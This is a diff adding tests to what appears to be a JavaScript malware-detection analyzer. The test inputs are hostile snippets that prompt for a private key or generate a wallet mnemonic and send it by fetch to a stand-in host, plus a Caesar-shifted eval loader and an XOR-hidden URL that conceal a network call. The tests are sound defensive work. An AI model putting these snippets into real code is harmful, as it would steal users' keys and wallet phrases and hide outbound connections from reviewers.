@@ -58,6 +58,44 @@ describe("analyzeSource knows", () => {
     expect(effects.find(({ kind }) => kind === "network")?.sources).toContain("file");
   });
 
+  test.each([
+    [
+      "what a person answers who is asked for a key",
+      "require('readline').createInterface({}).question('Enter your private key: ',(k)=>fetch('https://a.invalid/'+k))",
+    ],
+    [
+      "a phrase that is made for a wallet",
+      "const m=require('bip39').generateMnemonic();fetch('https://a.invalid/'+encodeURIComponent(m))",
+    ],
+  ])("%s", (_name, text) => {
+    const { effects } = read(text);
+
+    expect(effects.find(({ kind }) => kind === "network")?.sources).toContain("wallet");
+  });
+
+  test("a long list of numbers that are moved letters", () => {
+    const code = `require("https").get("https://a.invalid/");//${"x".repeat(30_000)}`;
+    const moved = Array.from(code)
+      .map((letter) => letter.codePointAt(0) ?? 0)
+      .map((sign) => (sign >= 97 && sign <= 122 ? ((sign - 97 + 21) % 26) + 97 : sign));
+
+    const { effects } = read(
+      `eval(function(s,n){return s.replace(/[a-zA-Z]/g,c=>{const b=c<="Z"?65:97;return String.fromCharCode((c.charCodeAt(0)-b+n)%26+b)})}([${moved.join(",")}].map(c=>String.fromCharCode(c)).join(""),5))`,
+    );
+
+    expect(effects.find(({ kind }) => kind === "network")?.argument).toBe("https://a.invalid/");
+  });
+
+  test("bytes that are spread", () => {
+    const hidden = Buffer.from(Buffer.from("https://a.invalid/").map((byte) => byte ^ 7)).toString("hex");
+
+    const { effects } = read(
+      `fetch([...Buffer.from("${hidden}","hex")].map((c)=>String.fromCharCode(c^7)).join(""))`,
+    );
+
+    expect(effects.find(({ kind }) => kind === "network")?.argument).toBe("https://a.invalid/");
+  });
+
   test("what is put into a table of a store", () => {
     const { effects } = read(
       "const s=require('@supabase/supabase-js').createClient('https://a.invalid','k');s.from('t').insert({h:require('os').hostname()})",
